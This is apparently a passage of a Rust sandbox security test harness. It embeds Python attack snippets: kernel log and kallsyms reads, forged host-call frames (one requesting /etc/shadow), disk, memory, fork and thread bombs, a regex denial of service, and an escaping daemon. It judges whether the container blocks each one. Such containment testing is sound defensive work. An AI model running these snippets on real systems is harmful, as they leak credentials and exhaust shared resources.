    _sec_report(bool(nz), '/proc/kallsyms: %d lines, %d with non-zero addresses' % (len(v.splitlines()), len(nz)))"#,
            markers(),
        ),
        Attack::new(
            "info.syslog",
            I,
            r#"ctypes, libc = _sec_libc()
buf = ctypes.create_string_buffer(1 << 16)
r, e = _sec_sys(103, 3, buf, 1 << 16)
if r <= 0:
    _sec_report(False, 'syslog(READ_ALL): %s' % (e if r < 0 else 'empty'))
else:
    print('SYSLOG ' + buf.raw[:r].decode('utf-8', 'replace').replace('\n', ' | ')[:2000])"#,
            Box::new(|env, run| match &run.outcome {
                Ok(o) if o.stdout.starts_with("SYSLOG ") => {
                    if o.stdout.contains(&env.host_kernel) || !env.gvisor {
                        Verdict::Escaped(format!(
                            "host kernel log readable: {}",
                            short(&o.stdout, 100)
                        ))
                    } else {
                        Verdict::Blocked(format!(
                            "gVisor's own synthetic log, not the host's: {}",
                            short(&o.stdout[7..], 80)
                        ))
                    }
                }
                _ => judge_markers(run, false),
            }),
        ),
    ]
}

/// Environment keys in the `info.host-env-canary` dump (`KEY=` at the start
/// of a NUL-separated entry, and keys of the repr'd dict).
fn sandbox_env_keys(out: &str) -> Vec<String> {
    let mut keys: Vec<String> = Vec::new();
    for entry in out.split(['\0', '\n']) {
        if let Some((k, _)) = entry.split_once('=') {
            if !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
                keys.push(k.to_string());
            }
        }
    }
    if let Some(first) = out.lines().next() {
        for part in first.split("', '") {
            let part = part.trim_start_matches("{'");
            if let Some((k, _)) = part.split_once("': ") {
                if k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
                    keys.push(k.to_string());
                }
            }
        }
    }
    keys.sort();
    keys.dedup();
    keys
}

fn kernel_judge(
    env: &crate::model::Env,
    run: &crate::model::Run,
    get: impl Fn(&str) -> String,
) -> Verdict {
    match &run.outcome {
        Ok(o) if o.status == ExecStatus::Ok => {
            let seen = get(&o.stdout);
            if seen == env.host_kernel {
                if env.gvisor {
                    Verdict::Escaped(format!("host kernel {seen} visible under gVisor"))
                } else {
                    Verdict::Info(format!(
                        "expected under runc: the host kernel {seen} (runc shares it)"
                    ))
                }
            } else {
                Verdict::Blocked(format!(
                    "sandbox sees {seen:?}, host runs {:?}",
                    env.host_kernel
                ))
            }
        }
        Ok(o) => Verdict::Blocked(format!("unreadable: {}", describe(o))),
        Err(e) => Verdict::Error(short(e, 160)),
    }
}

fn exfiltration() -> Vec<Attack> {
    use Category::Exfiltration as X;
    vec![
        Attack::new(
            "exfil.host-call-unregistered",
            X,
            r#"g = echo.__globals__
assert echo('ping') == {'args': ['ping'], 'kwargs': {}}, 'registered handler broken'
k, v = _sec_try(lambda: g['_host_call']('admin_shell', {'args': ['id'], 'kwargs': {}}))
_sec_report(k == 'ok', 'unregistered host function: %s: %s' % (k, v))"#,
            Box::new(|_env, run| {
                let v = judge_markers(run, false);
                match v {
                    Verdict::Blocked(d) if run.calls == 1 && d.contains("HostCallError") => {
                        Verdict::Blocked(format!("{d} (the registered handler ran once, nothing else)"))
                    }
                    Verdict::Blocked(d) => Verdict::Error(format!(
                        "{d}; {} handler calls instead of 1",
                        run.calls
                    )),
                    v => v,
                }
            }),
        ),
        Attack::new(
            "exfil.frame-text-on-stdout",
            X,
            r#"import os, json
body = json.dumps({'v': 1, 'type': 'call', 'id': 9999, 'name': 'echo', 'args': {'args': ['forged'], 'kwargs': {}}})
frame = '%08x' % len(body) + body
print(frame)
os.write(1, frame.encode())
os.write(2, frame.encode())"#,
            Box::new(|_env, run| match &run.outcome {
                Ok(o) if run.calls > 0 => Verdict::Escaped(format!(
                    "a frame printed to stdout reached a host function: {}",
                    describe(o)
                )),
                Ok(o) if o.status == ExecStatus::Ok && o.stdout.contains("\"forged\"") && run.alive => {
                    Verdict::Blocked("frame bytes on fd 1/2 are captured as plain output; no host call".into())
                }
                Ok(o) => Verdict::Error(describe(o)),
                Err(e) => Verdict::Error(short(e, 160)),
            }),
        ),
        Attack::new(
            "exfil.fd1-garbage",
            X,
            r#"import os
os.write(1, bytes(range(256)) * 64)
os.write(1, b'ffffffff{"v":1}')
print('after')"#,
            Box::new(|_env, run| match &run.outcome {
                Ok(o) if o.status == ExecStatus::Ok && run.alive && o.stdout.contains("after") => {
                    Verdict::Blocked(format!(
                        "binary garbage on fd 1 captured as output ({} bytes), session fine",
                        o.stdout.len()
                    ))
                }
                Ok(o) => Verdict::Error(describe(o)),
                Err(e) => Verdict::Error(short(e, 160)),
            }),
        ),
        Attack::new(
            "exfil.stdout-cap",
            X,
            "print(context[0:len(context)])",
            Box::new(|env, run| capped(env, run, false)),
        ),
        Attack::new(
            "exfil.stderr-cap",
            X,
            "import sys\nsys.stderr.write(context[0:len(context)])",
            Box::new(|env, run| capped(env, run, true)),
        ),
        Attack::new(
            "exfil.exception-cap",
            X,
            "raise ValueError(context[0:len(context)])",
            Box::new(|_env, run| match &run.outcome {
                Ok(o) => match &o.exception {
                    Some(x) if x.message.len() <= 16 * 1024 && x.traceback.len() <= 64 * 1024 => {
                        Verdict::Blocked(format!(
                            "exception message capped at {} bytes, traceback {}",
                            x.message.len(),
                            x.traceback.len()
                        ))
                    }
                    Some(x) => Verdict::Escaped(format!(
                        "uncapped exception: message {} bytes",
                        x.message.len()
                    )),
                    None => Verdict::Error(describe(o)),
                },
                Err(e) => Verdict::Error(short(e, 160)),
            }),
        ),
        Attack::new(
            "exfil.garbage-on-frame-fd",
            X,
            "import os, time\nos.write(echo.__globals__['_FR_OUT'], b'zzzzzzzz not a frame')\ntime.sleep(5)",
            protocol_kill(),
        )
        .fresh(),
        Attack::new(
            "exfil.oversized-frame-header",
            X,
            "import os, time\nos.write(echo.__globals__['_FR_OUT'], b'7fffffff{\"v\":1,')\ntime.sleep(5)",
            protocol_kill(),
        )
        .fresh(),
        Attack::new(
            "exfil.forged-result",
            X,
            "import time\necho.__globals__['_send']({'type': 'result', 'id': 10**9, 'stdout': 'FORGED'})\ntime.sleep(5)",
            protocol_kill(),
        )
        .fresh(),
        Attack::new(
            "exfil.oversized-host-call",
            X,
            "echo('x' * (40 << 20))",
            protocol_kill(),
        )
        .fresh()
        .timeout(Duration::from_secs(5)),
        Attack::new(
            "exfil.frame-fd-flood",
            X,
            "import os\nfd = echo.__globals__['_FR_OUT']\nos.write(fd, b'00ffffff')\nwhile True:\n    os.write(fd, b'x' * (1 << 20))",
            protocol_kill(),
        )
        .fresh()
        .timeout(Duration::from_secs(5)),
        Attack::new(
            "exfil.forged-call-unregistered",
            X,
            r#"import time
g = echo.__globals__
g['_send']({'type': 'call', 'id': 424242, 'name': 'read_host_file', 'args': {'args': ['/etc/shadow'], 'kwargs': {}}})
time.sleep(0.5)
replies = []
while not g['_call_replies'].empty():
    replies.append(g['_call_replies'].get())
_sec_report(any(r.get('ok') for r in replies), 'raw call frame to an unregistered name answered: %s' % replies)"#,
            Box::new(|_env, run| match judge_markers(run, false) {
                Verdict::Blocked(d) if run.calls == 0 && run.alive => Verdict::Blocked(d),
                Verdict::Blocked(d) => Verdict::Error(format!("{d}; calls {} alive {}", run.calls, run.alive)),
                v => v,
            }),
        ),
    ]
}

/// The sandbox sent bytes that are not a valid frame (or a frame it must
/// not send): the host must end the session cleanly, call no handler, and
/// go on (this harness is that host: reaching the verdict means it did).
fn protocol_kill() -> Judge {
    Box::new(|_env, run| {
        if run.calls > 0 {
            return Verdict::Escaped(format!("a host function ran ({} calls)", run.calls));
        }
        if let Some(v) = host_fault(run) {
            return v;
        }
        match &run.outcome {
            Err(e) if !run.alive => {
                Verdict::Blocked(format!("host ended the session: {}", short(e, 120)))
            }
            Ok(o) if !run.alive => Verdict::Blocked(format!("session ended: {}", describe(o))),
            Ok(o) => Verdict::Error(format!("the host accepted it: {}", describe(o))),
            Err(e) => Verdict::Error(format!("error but alive: {e}")),
        }
    })
}

/// The host driver panicked, never answered, or took far too long: the
/// sandbox held the host, which is a containment failure.
fn host_fault(run: &crate::model::Run) -> Option<Verdict> {
    if let Err(e) = &run.outcome {
        if e.starts_with(crate::HOST_PANIC) || e.starts_with(crate::HOST_HUNG) {
            return Some(Verdict::Escaped(format!(
                "the sandbox stalled the host driver: {}",
                short(e, 140)
            )));
        }
    }
    if run.elapsed > Duration::from_secs(20) {
        return Some(Verdict::Escaped(format!(
            "the host driver took {:.0}s to end the session",
            run.elapsed.as_secs_f64()
        )));
    }
    None
}

fn capped(env: &crate::model::Env, run: &crate::model::Run, stderr: bool) -> Verdict {
    match &run.outcome {
        Ok(o) => {
            let (len, cut) = if stderr {
                (o.stderr.len(), o.stderr_truncated)
            } else {
                (o.stdout.len(), o.stdout_truncated)
            };
            if len <= env.max_capture && cut {
                let via = if o.stdout.contains(&env.context_secret) {
                    "; the context leaves only through this host-read channel"
                } else {
                    ""
                };
                Verdict::Blocked(format!(
                    "{} capped at {len} bytes (cap {}), marked truncated{via}",
                    if stderr { "stderr" } else { "stdout" },
                    env.max_capture
                ))
            } else if len > env.max_capture {
                Verdict::Escaped(format!("{len} bytes passed a {} byte cap", env.max_capture))
            } else {
                Verdict::Error(format!("not truncated? {len} bytes: {}", describe(o)))
            }
        }
        Err(e) => Verdict::Error(short(e, 160)),
    }
}

fn resource(marker: &str) -> Vec<Attack> {
    use Category::Resource as R;
    let secs = Duration::from_secs;
    vec![
        Attack::new(
            "res.disk-fill-tmp",
            R,
            r#"import os
n = 0
err = None
chunk = b'x' * (1 << 20)
try:
    with open('/tmp/fill', 'wb') as f:
        while n < (1 << 30):
            f.write(chunk)
            f.flush()
            n += len(chunk)
except OSError as e:
    err = '%s (%s)' % (type(e).__name__, e.strerror)
finally:
    try:
        os.unlink('/tmp/fill')
    except OSError:
        pass
print('WROTE %d %s' % (n, err))"#,
            Box::new(disk_judge),
        ),
        Attack::new(
            "res.disk-fill-many-files",
            R,
            r#"import os
os.makedirs('/tmp/many', exist_ok=True)
n = 0
err = None
chunk = b'y' * (256 << 10)
try:
    while n < (1 << 30):
        with open('/tmp/many/%d' % (n // len(chunk)), 'wb') as f:
            f.write(chunk)
        n += len(chunk)
except OSError as e:
    err = '%s (%s)' % (type(e).__name__, e.strerror)
for f in os.listdir('/tmp/many'):
    os.unlink('/tmp/many/' + f)
os.rmdir('/tmp/many')
print('WROTE %d %s' % (n, err))"#,
            Box::new(disk_judge),
        ),
        Attack::new(
            "res.disk-fill-elsewhere",
            R,
            r#"import os
res = []
for d in ['/', '/var/tmp', '/home', '/root', '/dev', '/dev/shm', '/run', '/var/log']:
    n = 0
    p = os.path.join(d, 'rlm-fill')
    try:
        with open(p, 'wb') as f:
            while n < (256 << 20):
                f.write(b'z' * (1 << 20))
                n += 1 << 20
        err = 'none'
    except OSError as e:
        err = type(e).__name__
    try:
        os.unlink(p)
    except OSError:
        pass
    res.append((d, n >> 20, err))
big = [r for r in res if r[1] > 64]
_sec_report(bool(big), 'MiB written before refusal: %s' % res)"#,
            markers(),
        ),
        Attack::new(
            "res.stdout-flood",
            R,
            "print('x' * 50_000_000)",
            Box::new(|env, run| capped(env, run, false)),
        ),
        Attack::new(
            "res.stderr-flood",
            R,
            "import sys\nfor _ in range(200):\n    sys.stderr.write('e' * 100_000)",
            Box::new(|env, run| capped(env, run, true)),
        ),
        Attack::new(
            "res.fd1-flood",
            R,
            "import os\nfor _ in range(400):\n    os.write(1, b'f' * 65536)",
            Box::new(|env, run| capped(env, run, false)),
        ),
        Attack::new(
            "res.repr-flood",
            R,
            "'q' * 30_000_000",
            Box::new(|env, run| capped(env, run, false)),
        ),
        Attack::new(
            "res.cpu-burn",
            R,
            "while True:\n    pass",
            timed_out(false),
        )
        .timeout(secs(2)),
        Attack::new(
            "res.sleep-past-timeout",
            R,
            "import time\ntime.sleep(3600)",
            timed_out(false),
        )
        .timeout(secs(2)),
        Attack::new(
            "res.fd-exhaustion",
            R,
            r#"import os
fds = []
err = None
try:
    while len(fds) < 100000:
        fds.append(os.open('/dev/null', os.O_RDONLY))
except OSError as e:
    err = type(e).__name__ + ' ' + str(e.strerror)
n = len(fds)
for fd in fds:
    os.close(fd)
print('OPENED %d %s' % (n, err))"#,
            Box::new(|env, run| match &run.outcome {
                Ok(o) if o.status == ExecStatus::Ok && run.alive => {
                    let n = o
                        .stdout
                        .split_whitespace()
                        .nth(1)
                        .and_then(|n| n.parse::<u64>().ok());
                    match n {
                        Some(n) if n <= env.nofile_limit => Verdict::Blocked(format!(
                            "stopped at {n} descriptors (limit {}): {}",
                            env.nofile_limit,
                            short(&o.stdout, 60)
                        )),
                        Some(n) => Verdict::Escaped(format!(
                            "{n} descriptors opened past nofile {}",
                            env.nofile_limit
                        )),
                        None => Verdict::Error(describe(o)),
                    }
                }
                Ok(o) => Verdict::Error(describe(o)),
                Err(e) => Verdict::Error(short(e, 160)),
            }),
        ),
        Attack::new(
            "res.memory-gradual",
            R,
            "chunks = []\nwhile True:\n    chunks.append(b'm' * (32 << 20))",
            Box::new(|_env, run| match &run.outcome {
                Ok(o) if o.status == ExecStatus::OutOfMemory => {
                    Verdict::Blocked(format!("OutOfMemory (exit {})", o.exit_code()))
                }
                Ok(o) if o.exception.as_ref().is_some_and(|x| x.kind == "MemoryError") => {
                    Verdict::Blocked("MemoryError inside the limit".into())
                }
                Ok(o) => Verdict::Error(format!("expected OOM, got {}", describe(o))),
                Err(e) => Verdict::Error(short(e, 160)),
            }),
        )
        .fresh()
        .timeout(secs(30)),
        Attack::new(
            "res.fork-bomb",
            R,
            r#"import os, time
p = _sec_posix()
kids = []
err = None
t0 = time.time()
try:
    while len(kids) < 5000 and time.time() - t0 < 10:
        pid = p.fork()
        if pid == 0:
            time.sleep(20)
            os._exit(0)
        kids.append(pid)
except OSError as e:
    err = type(e).__name__ + ' ' + str(e.strerror)
for k in kids:
    try:
        os.kill(k, 9)
    except OSError:
        pass
print('FORKED %d %s' % (len(kids), err))"#,
            Box::new(|env, run| count_judge(env, run, "FORKED", "processes")),
        )
        .fresh()
        .timeout(secs(20)),
        Attack::new(
            "res.thread-bomb",
            R,
            r#"import threading, time
ev = threading.Event()
n = 0
err = None
t0 = time.time()
try:
    while n < 5000 and time.time() - t0 < 10:
        threading.Thread(target=ev.wait, daemon=True).start()
        n += 1
except (RuntimeError, OSError, MemoryError) as e:
    err = type(e).__name__ + ' ' + str(e)
ev.set()
print('THREADS %d %s' % (n, err))"#,
            Box::new(|env, run| count_judge(env, run, "THREADS", "threads")),
        )
        .fresh()
        .timeout(secs(20)),
        Attack::new(
            "res.ignore-interrupt",
            R,
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
            timed_out(true),
        )
        .fresh()
        .timeout(secs(2)),
        Attack::new(
            "res.swallow-interrupt",
            R,
            "import time\nwhile True:\n    try:\n        time.sleep(100)\n    except KeyboardInterrupt:\n        pass",
            timed_out(true),
        )
        .fresh()
        .timeout(secs(2)),
        Attack::new(
            "res.uninterruptible-regex",
            R,
            "import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')",
            timed_out(true),
        )
        .fresh()
        .timeout(secs(2)),
        Attack::new(
            "res.thread-outlives-cell",
            R,
            r#"import os, threading, time
def spam():
    while True:
        os.write(1, b'LEAK ' * 2000 + b'\n')
        time.sleep(0.001)
threading.Thread(target=spam, daemon=True).start()
print('started')"#,
            Box::new(|env, run| match (&run.outcome, &run.followup) {
                (Ok(_), Some(Ok(f))) => {
                    if f.stdout.len() > env.max_capture {
                        Verdict::Escaped(format!("{} bytes passed the cap", f.stdout.len()))
                    } else if run.container_removed != Some(true) {
                        Verdict::Escaped("the container survived close".into())
                    } else if f.stdout.contains("NEXT-CELL") || f.stdout_truncated {
                        Verdict::Blocked(format!(
                            "stray thread output stays in the capped capture of later cells ({} bytes{}); gone with the container on close",
                            f.stdout.len(),
                            if f.stdout_truncated { ", truncated" } else { "" }
                        ))
                    } else {
                        Verdict::Error(describe(f))
                    }
                }
                (Ok(o), f) => Verdict::Error(format!("{} / follow-up {f:?}", describe(o))),
                (Err(e), _) => Verdict::Error(short(e, 160)),
            }),
        )
        .fresh()
        .followup("import time\ntime.sleep(0.3)\nprint('NEXT-CELL')"),
        Attack::new(
            "res.daemon-outlives-session",
            R,
            r#"import os
p = _sec_posix()
pid = p.fork()
if pid == 0:
    os.setsid()
    if p.fork() == 0:
        try:
            p.execv('/usr/bin/python3', ['python3', '-c', 'import time\n# @MARK@\nwhile True: time.sleep(0.1)'])
        finally:
            os._exit(1)
    os._exit(0)
os.waitpid(pid, 0)
import time
time.sleep(0.3)
alive = [q for q in os.listdir('/proc') if q.isdigit() and b'@MARK@' in open('/proc/%s/cmdline' % q, 'rb').read()]
print('DAEMON %s' % alive)"#
                .replace("@MARK@", marker),
            Box::new(|_env, run| match &run.outcome {
                Ok(o) if o.stdout.starts_with("DAEMON [") => {
                    let started = !o.stdout.contains("DAEMON []");
                    match (run.container_removed, run.stray_processes) {
                        (Some(true), Some(0)) => Verdict::Blocked(format!(
                            "{} daemon; container gone on close and no marked process left on the host",
                            if started { "started a setsid" } else { "could not start a" }
                        )),
                        (removed, stray) => Verdict::Escaped(format!(
                            "after close: container removed {removed:?}, marked host processes {stray:?}"
                        )),
                    }
                }
                Ok(o) => Verdict::Error(describe(o)),
                Err(e) => Verdict::Error(short(e, 160)),
            }),
        )
        .fresh(),
    ]
}

fn disk_judge(env: &crate::model::Env, run: &crate::model::Run) -> Verdict {
    match &run.outcome {
        Ok(o) if o.status == ExecStatus::Ok => {
            let mut it = o.stdout.split_whitespace();
            let n = it.nth(1).and_then(|n| n.parse::<u64>().ok());
            match n {
                Some(n) if n <= env.disk_limit + (1 << 20) && !o.stdout.contains("None") => {
                    Verdict::Blocked(format!(
                        "stopped after {} MiB: {}",
                        n >> 20,
                        short(o.stdout.split_once(' ').map_or("", |x| x.1), 80)
                    ))
                }
                Some(n) => Verdict::Escaped(format!("wrote {} MiB unchecked", n >> 20)),
                None => Verdict::Error(describe(o)),
            }
        }
        Ok(o) => Verdict::Error(describe(o)),
        Err(e) => Verdict::Error(short(e, 160)),
    }
}

fn count_judge(env: &crate::model::Env, run: &crate::model::Run, tag: &str, what: &str) -> Verdict {
    match &run.outcome {
        Ok(o) if o.stdout.starts_with(tag) => {
            let n = o
                .stdout
                .split_whitespace()
                .nth(1)
                .and_then(|n| n.parse::<u64>().ok());
            match n {
                Some(n) if n <= env.pids_limit && !o.stdout.contains(" None") => {
                    Verdict::Blocked(format!(
                        "stopped at {n} {what} (pids limit {}): {}",
                        env.pids_limit,
                        short(&o.stdout, 80)
                    ))
                }
                Some(n) => Verdict::Escaped(format!("{n} {what} without hitting a limit")),
                None => Verdict::Error(describe(o)),
            }
        }
        // The bomb took the session down with it: contained.
        Ok(o) if !run.alive => {
            Verdict::Blocked(format!("session ended, contained: {}", describe(o)))
        }
        Ok(o) => Verdict::Error(describe(o)),
        Err(e) => Verdict::Error(short(e, 160)),
    }
}

fn timed_out(must_kill: bool) -> Judge {
    Box::new(move |_env, run| match &run.outcome {
        Ok(o) => match o.status {
            ExecStatus::TimedOut { killed } if killed == must_kill || killed => {
                let s = if killed {
                    "interrupt ignored: container killed"
                } else {
                    "interrupted (KeyboardInterrupt), session lives on"
                };
                if o.duration > Duration::from_secs(12) {
                    Verdict::Escaped(format!(
                        "ran {:.1}s past a 2s timeout",
                        o.duration.as_secs_f64()
                    ))
                } else {
                    Verdict::Blocked(format!(
                        "{s} after {:.1}s (exit {})",
                        o.duration.as_secs_f64(),
                        o.exit_code()
                    ))
                }
            }
            ExecStatus::TimedOut { killed: false } => Verdict::Blocked(format!(
                "interrupted after {:.1}s without a kill",
                o.duration.as_secs_f64()
            )),
            _ => Verdict::Error(format!("expected a timeout, got {}", describe(o))),
        },
        Err(e) => Verdict::Error(short(e, 160)),
    })
}
